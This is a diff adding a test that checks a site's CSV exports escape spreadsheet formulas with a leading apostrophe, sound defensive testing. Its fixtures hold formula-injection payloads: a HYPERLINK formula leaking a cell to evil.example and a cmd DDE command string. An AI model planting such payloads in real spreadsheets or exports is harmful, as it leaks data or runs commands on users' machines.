@@ -287,6 +287,44 @@ def _without_json_ld(html: str, url: str) -> str:
     return JSON_LD.sub("", html)
 
 
+# --- the downloads built with the odd text ----------------------------------------------------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet reads as the start of a formula (OWASP)
+
+
+def _csv_rows(site, name: str) -> dict[str, dict]:
+    import csv
+    import io
+
+    text = (site.root / "data" / name).read_text(encoding="utf-8-sig")
+    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+
+
+def test_the_downloads_show_text_that_looks_like_a_formula_as_text(render_site):
+    """claims.csv and sources.csv put an apostrophe before every text a spreadsheet would run as a formula; the
+    JSON keeps it as written."""
+    claims, sources = _csv_rows(render_site, "claims.csv"), _csv_rows(render_site, "sources.csv")
+    formula = claims["hostile-formula"]
+    assert formula["statement_en"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
+    assert formula["statement_zh"].startswith("'@SUM(")
+    assert formula["quote_translation_en"] == "'+cmd|' /C notepad'!A0"
+    cites = claims["cites-formula-source"]
+    assert cites["statement_en"] == "'\tThe chip exists." and cites["paraphrase_en"] == "'=1+1 says the page."
+    source = sources["hostile-formula-source"]
+    assert source["name_en"] == '\'=HYPERLINK("https://evil.example/","Open")'
+    assert (source["name_zh"], source["title"]) == ("'@一篇来源", "'+可疑标题")
+    seen = 0
+    for rows in (claims, sources):
+        for row in rows.values():
+            for cell in row.values():
+                seen += 1
+                if cell.startswith(FORMULA_START):
+                    float(cell.split("..")[0])  # only a number may begin so
+    assert seen > 10_000
+    records = {c["id"]: c for c in json.loads((render_site.root / "data" / "claims.json").read_text(encoding="utf-8"))}
+    assert records["hostile-formula"]["statement"]["en"].startswith("=HYPERLINK(")
+
+
 # --- no record takes the place of a page the site builds itself ----------------------------------------------
 
 def _record_ids(kb, kind) -> set[str]:
